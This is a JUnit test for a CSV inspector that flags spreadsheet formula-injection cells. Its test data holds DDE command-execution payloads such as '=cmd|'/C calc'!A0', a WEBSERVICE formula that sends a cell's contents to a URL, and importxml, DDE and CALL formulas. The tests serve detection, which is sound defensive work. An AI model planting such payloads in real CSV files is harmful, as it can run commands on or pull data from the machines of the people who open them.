package org.rapporteur.asset;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.charset.StandardCharsets;
import java.util.List;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.rapporteur.diagnostic.Diagnostic;

class CsvInspectorTest {

  @ParameterizedTest
  @ValueSource(
      strings = {
        "=cmd|'/C calc'!A0",
        "\"=cmd|' /C calc'!A0\"",
        "+cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=cmd|calc!A0",
        "\"=WEBSERVICE(\"\"https://example.org/\"\"&A1)\"",
        " =importxml (a)",
        "=IF(1,DDE(1))",
        "'=CALL(1)"
      })
  void reportsFormulasThatFetch(String cell) {
    for (String delimiter : List.of(",", ";", "\t")) {
      List<Diagnostic> found = inspect("a" + delimiter + "b\n1" + delimiter + cell + "\n2");
      assertEquals(1, found.size(), delimiter);
      assertEquals("asset-active", found.get(0).rule().id());
      assertEquals(2, found.get(0).span().line());
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "-5",
        "+33 1 23",
        "@un_hrc",
        "=A1+B1",
        "-",
        "the image (left)",
        "a|b!c",
        "=SUM(A1:A9)",
        "- see the image: WEBSERVICE",
        "+ an image|a text"
      })
  void acceptsOtherCells(String cell) {
    assertEquals(List.of(), inspect("a,b\r\n" + cell + ",2\r\n\"" + cell + "\",3"));
  }

  private static List<Diagnostic> inspect(String text) {
    return Inspected.file("a.csv", text.getBytes(StandardCharsets.UTF_8));
  }
}
